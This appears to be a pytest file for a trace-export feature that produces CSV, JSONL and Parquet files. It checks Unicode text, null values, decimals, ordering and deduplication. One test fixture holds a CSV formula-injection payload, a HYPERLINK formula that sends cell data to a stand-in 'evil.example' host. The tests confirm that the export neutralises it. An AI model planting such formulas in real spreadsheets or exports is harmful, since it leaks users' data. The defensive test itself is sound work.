"""What is in the files."""

import csv
import io
import json
import subprocess
import sys
from decimal import Decimal

import pytest

pytestmark = pytest.mark.usefixtures("db", "clickhouse_schema")

KOREAN = '환불 정책을 알려 주세요\n둘째 줄, "인용" 😀'
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"x")'


def table(content: bytes) -> list[dict]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def lines(content: bytes) -> list[dict]:
    return [json.loads(line) for line in content.decode().split("\n") if line]


def parquet(content: bytes, tmp_path, columns: str = "*") -> list[dict]:
    """As ClickHouse reads it, in a process of its own; in the file's order, not of its threads."""
    path = tmp_path / "read.parquet"
    path.write_bytes(content)
    script = f"""
import chdb
print(chdb.query(
    "SELECT {columns} FROM file('{path}', Parquet)"
    " SETTINGS output_format_json_quote_decimals = 1, output_format_json_quote_64bit_integers = 0,"
    " input_format_parquet_preserve_order = 1, max_threads = 1",
    "JSONEachRow",
))
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, check=True)
    return lines(done.stdout)


@pytest.fixture
def two_traces(span, score):
    """One with all there is to say, and an older one of which little is known."""
    span("old", "a", at=-60, took=None, model="nobody-knows", type="GENERATION",
         cost_source="unknown", name=HOSTILE)  # fmt: skip
    span("new", "", trace_name="상담", user_id="ann", tags=["beta", "가"],
         trace_metadata={"region": "서울"}, took=None, type="TRACE")  # fmt: skip
    span("new", "root", took=2.5, is_root=True, input=KOREAN, output="-1+1", level="ERROR",
         input_tokens=3, output_tokens=4, total_cost="0.000000012", model="m",
         type="GENERATION", metadata={"k": "v"})  # fmt: skip
    span("new", "tool", at=1, parent_span_id="root", type="TOOL", name="search", input="@x")
    score("new", "helpful", 0.5, comment="좋아요")


def test_a_csv_of_traces_has_whole_texts_and_no_formula(two_traces, exported):
    new, old = table(exported("csv"))
    assert (new["id"], new["name"], new["user_id"]) == ("new", "상담", "ann")
    assert new["input"] == KOREAN
    assert new["output"] == "'-1+1"
    assert (new["tags"], new["metadata"]) == ('["beta","가"]', '{"region":"서울"}')
    assert (new["latency_ms"], new["input_tokens"]) == ("2500.0", "3")
    assert new["cost_usd"] == "0.000000012"
    assert json.loads(new["scores"])[0]["comment"] == "좋아요"
    assert new["started_at"].endswith(".000000000Z")
    assert old["name"] == f"'{HOSTILE}"
    assert (old["cost_usd"], old["unpriced_spans"], old["input"]) == ("", "1", "")


def test_a_line_of_json_says_null_for_what_is_unknown(two_traces, exported):
    new, old = lines(exported("jsonl"))
    assert (new["input"], new["output"]) == (KOREAN, "-1+1")
    assert (new["tags"], new["metadata"]) == (["beta", "가"], {"region": "서울"})
    assert new["cost_usd"] == "0.000000012"
    assert new["scores"][0]["value"] == 0.5
    assert (old["cost_usd"], old["input"], old["name"]) == (None, None, HOSTILE)
    assert old["latency_ms"] == 0


def test_parquet_is_read_by_another_program_with_its_types(two_traces, exported, tmp_path, now):
    content = exported("parquet")
    columns = "*, toTypeName(cost_usd) AS money, toUnixTimestamp64Nano(started_at) AS at"
    new, old = parquet(content, tmp_path, columns)
    assert (new["input"], new["output"]) == (KOREAN, "-1+1")
    assert "Decimal(38, 12)" in new["money"]
    assert Decimal(new["cost_usd"]) == Decimal("0.000000012")
    assert (new["at"], new["latency_ms"], new["span_count"]) == (now, 2500, 2)
    assert json.loads(new["metadata"]) == {"region": "서울"}
    assert (old["cost_usd"], old["user_id"], old["name"]) == (None, None, HOSTILE)


def test_observations_of_traces_are_all_of_those_that_match(two_traces, exported):
    found = lines(exported("jsonl", "level:ERROR", kind="spans"))
    assert [one["id"] for one in found] == ["root", "tool"]
    assert found[0]["input"] == KOREAN
    assert found[0]["cost_usd"] == "0.000000012"
    assert found[0]["metadata"] == {"k": "v"}
    assert found[1]["user_id"] == "ann"  # as its trace says
    assert (found[1]["cost_usd"], found[1]["latency_ms"], found[1]["parent_id"]) == (
        None, 1000, "root",
    )  # fmt: skip


def test_observations_of_a_trace_that_went_on_for_days_are_all_of_it(span, exported):
    span("t", "r", at=-60)
    span("t", "later", at=5 * 24 * 3600, parent_span_id="r", input="five days later")
    found = lines(exported("jsonl", kind="spans"))
    assert {(line["id"], line["input"]) for line in found} == {
        ("r", None),
        ("later", "five days later"),
    }


def test_a_trace_has_all_of_its_scores(span, project, now, exported):
    from traces.records import Score
    from traces.writer import insert_scores

    span("t", "r")
    insert_scores(
        [
            Score(
                project.id, f"{n:05d}", "ok", now, value=1.0, trace_id="t", observation_id=f"s{n}"
            )
            for n in range(2_100)
        ]
    )
    [line] = lines(exported("jsonl"))
    assert len(line["scores"]) == 2_100


def test_observations_are_those_that_match_themselves(two_traces, exported):
    [found] = lines(exported("jsonl", "level:ERROR", kind="observations"))
    assert (found["id"], found["input"], found["cost_usd"]) == ("root", KOREAN, "0.000000012")


@pytest.mark.parametrize("format_", ["csv", "jsonl", "parquet"])
@pytest.mark.parametrize("kind", ["traces", "observations", "spans"])
def test_nothing_found_is_an_empty_file_that_can_be_read(exported, tmp_path, format_, kind):
    content = exported(format_, kind=kind)
    readers = {"csv": table, "jsonl": lines, "parquet": lambda c: parquet(c, tmp_path)}
    assert readers[format_](content) == []


def test_superseded_deleted_and_strange_rows_are_left_out(span, exported, organisation):
    from accounts.models import Project
    from traces.deletion import delete_traces
    from traces.records import Span
    from traces.writer import insert_spans

    other = Project.objects.create(organisation=organisation, name="Other")
    mine = span("t", "s", input="before", version=5)
    span("t", "s", input="after", version=6)
    span("gone", "s")
    delete_traces(mine.project_id, ["gone"])
    insert_spans([Span(other.id, "foreign", "s", mine.start_time)])
    [one] = lines(exported("jsonl"))
    assert (one["id"], one["input"]) == ("t", "after")
    for kind in ("observations", "spans"):
        [seen] = lines(exported("jsonl", kind=kind))
        assert (seen["trace_id"], seen["input"]) == ("t", "after")


def test_text_that_no_file_could_hold_does_no_harm(span, exported, tmp_path):
    span("t", "s", name="a\x00b\x1b[2J\u2028\ud7a3", input="x" * 100_000, model="\t=1")
    [row] = table(exported("csv", kind="observations"))
    assert row["model"] == "'\t=1"
    assert row["input"] == "x" * 100_000
    [line] = lines(exported("jsonl", kind="observations"))
    assert line["name"] == "a\x00b\x1b[2J\u2028\ud7a3"
    [read] = parquet(exported("parquet", kind="observations"), tmp_path)
    assert read["input"] == "x" * 100_000
    assert read["name"] == line["name"]


def test_many_traces_come_newest_first_and_each_once(span, exported, tmp_path, monkeypatch):
    from exports import exporting
    from exports.models import Kind

    monkeypatch.setattr(exporting, "AT_ONCE", dict.fromkeys(Kind, 7))
    monkeypatch.setattr(exporting, "LINES_AT_ONCE", 4)
    for n in range(30):
        span(f"t{n:02}", "s", at=-n, input=str(n))
    expected = [f"t{n:02}" for n in range(30)]
    assert [one["id"] for one in lines(exported("jsonl"))] == expected
    assert [one["id"] for one in table(exported("csv"))] == expected
    assert [one["id"] for one in parquet(exported("parquet"), tmp_path)] == expected
    found = lines(exported("jsonl", kind="observations"))
    assert [one["input"] for one in found] == list(map(str, range(30)))
    found = lines(exported("jsonl", kind="spans"))
    assert sorted(one["input"] for one in found) == sorted(map(str, range(30)))
